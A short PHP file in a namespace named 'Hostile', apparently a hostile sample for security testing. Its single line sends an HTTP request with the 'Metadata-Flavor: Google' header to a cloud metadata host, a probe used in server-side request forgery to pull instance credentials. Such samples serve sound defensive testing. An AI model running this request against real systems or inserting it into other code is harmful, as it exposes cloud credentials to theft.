<?php
/** License: GPL-2.0-or-later */
declare(strict_types=1);

namespace AIPress\Hostile;

echo exchange('tcp://' . target()['metadata'] . ':80', "GET / HTTP/1.0\r\nMetadata-Flavor: Google\r\n\r\n");
